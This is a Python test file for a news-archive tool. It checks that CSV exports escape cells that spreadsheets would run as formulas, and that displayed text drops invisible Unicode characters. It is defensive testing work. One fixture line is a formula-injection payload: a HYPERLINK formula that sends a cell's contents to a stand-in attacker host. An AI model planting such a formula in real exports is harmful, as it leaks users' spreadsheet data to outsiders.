"""CSV that a spreadsheet opens safely, and text that hides nothing where it is shown."""

from __future__ import annotations

import asyncio
import csv
import io
from dataclasses import replace
from pathlib import Path

import httpx
import pytest
from archive_samples import article, visit
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from archive import Archive
from archive.reading.export.spreadsheet_csv import MARK, SpreadsheetRows, plain_cell
from newsclip.browse.app import application
from newsclip.browse.template_filters import without_unseen
from newsclip.cli import main
from newsclip.terminal.output.printing import strip_controls

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Ferry")'
CELLS = st.text(st.sampled_from('=+-@"\t,;\n\r a1é\uff1d'), max_size=8)


@pytest.fixture(scope="module")
def path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    found = tmp_path_factory.mktemp("sheets") / "news.db"
    read = article(FORMULA, ("@ferry said that\nit is late.", "The quay stays dry, they say."))
    with Archive(found, write=True) as archive:
        archive.save([visit(replace(read, section="-2+3", kicker="+49 30"))])
    return found


@pytest.mark.parametrize("text", ["=1+1", "+a", "-a", "@a", "\ta", "\r=1", " =1", "\uff1d1", "-1a"])
def test_no_cell_is_a_formula(text: str) -> None:
    assert plain_cell(text) == f"'{text}"


@pytest.mark.parametrize("value", ["Ferry", "a=b", "-5", "+3.5", "", None, 7, "'=1", "– dash"])
def test_other_cells_stay(value: object) -> None:
    assert plain_cell(value) == value


@given(st.lists(st.lists(CELLS, min_size=1, max_size=4), max_size=5), st.integers(1, 9))
def test_csv_in_pieces_is_rewritten_whole(table: list[list[str]], size: int) -> None:
    out = io.StringIO()
    csv.writer(out).writerows(table)
    text, rows = out.getvalue(), SpreadsheetRows()
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    written = "".join(rows.take(piece) for piece in pieces) + rows.end()
    assert written.startswith(MARK)
    read = list(csv.reader(io.StringIO(written.removeprefix(MARK), newline="")))
    assert read == [[plain_cell(cell) for cell in row] for row in table]


def test_an_export_for_spreadsheets(path: Path, tmp_path: Path) -> None:
    plain, safe = tmp_path / "plain.csv", tmp_path / "safe.csv"
    archive = ["--archive", str(path)]
    for output, more in ((plain, []), (safe, ["--for-spreadsheets"])):
        done = CliRunner().invoke(main, ["export", "-o", str(output), *more, *archive])
        assert done.exit_code == 0, done.output
    (row,) = csv.DictReader(plain.open(encoding="utf-8", newline=""))
    assert row["headline"] == FORMULA
    assert safe.read_text(encoding="utf-8").startswith(MARK)
    (row,) = csv.DictReader(safe.open(encoding="utf-8-sig", newline=""))
    assert [row[name] for name in ("headline", "section", "kicker")] == [
        f"'{FORMULA}", "'-2+3", "'+49 30",
    ]  # fmt: skip
    assert row["body"].startswith("'@ferry said that")
    wrong = CliRunner().invoke(
        main, ["export", "--format", "jsonl", "--for-spreadsheets", *archive]
    )
    assert wrong.exit_code == 2
    assert "--for-spreadsheets is for csv" in wrong.output


@pytest.mark.parametrize("command", ["search", "runs", "sites"])
def test_lists_for_spreadsheets(path: Path, command: str) -> None:
    def run(*more: str) -> str:
        done = CliRunner().invoke(main, [command, *more, "--archive", str(path)])
        assert done.exit_code == 0, done.output
        return done.stdout

    plain, safe = run("--format", "csv"), run("--for-spreadsheets")
    assert safe == run("--format", "csv", "--for-spreadsheets")
    assert (safe.startswith(MARK), plain.startswith(MARK)) == (True, False)
    rows = list(csv.reader(io.StringIO(safe.removeprefix(MARK))))
    assert rows == [[plain_cell(cell) for cell in row] for row in csv.reader(io.StringIO(plain))]
    assert (f"'{FORMULA}" in str(rows)) == (command == "search")
    wrong = ["--format", "jsonl", "--for-spreadsheets", "--archive", str(path)]
    refused = CliRunner().invoke(main, [command, *wrong])
    assert (refused.exit_code, "--for-spreadsheets is for csv" in refused.output) == (2, True)


@pytest.mark.parametrize(
    "address",
    [
        "/search.csv?q=",
        "/archive/articles.csv?_stream=on",
        "/archive.csv?sql=select+headline+from+articles",
    ],
)
def test_browse_gives_csv_for_spreadsheets(path: Path, address: str) -> None:
    async def ask() -> tuple[httpx.Response, httpx.Response]:
        transport = httpx.ASGITransport(application(path))
        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as client:
            return await client.get(address), await client.get(f"{address}&_for=spreadsheets")

    plain, safe = asyncio.run(ask())
    assert plain.status_code == safe.status_code == 200, safe.text
    (row,) = csv.DictReader(io.StringIO(plain.text, newline=""))
    assert row["headline"] == FORMULA
    assert safe.text.startswith(MARK)
    (row,) = csv.DictReader(io.StringIO(safe.text.removeprefix(MARK), newline=""))
    assert row["headline"] == f"'{FORMULA}"


@pytest.mark.parametrize("show", [strip_controls, without_unseen])
def test_what_hides_text_is_not_shown(show: object) -> None:
    assert callable(show)
    for (
        hiding
    ) in "\u061c\u200b\u2060\u2063\ufeff\ufff9\ufffb\U000e0041\U000e007f\u180e\u200c\u200d":
        assert show(f"fer{hiding}ry") == "ferry"
    for needed in (
        "می\u200cخواهم",  # Persian: two words of one
        "क्\u200dष",  # Devanagari: a half letter
        "\U0001f469\u200d\U0001f680",  # an astronaut
        "\u2764\ufe0f\u200d\U0001f525",  # a heart on fire
    ):
        assert show(needed) == needed
    assert show("fer\u200d\u200d\u200cry") == "ferry"
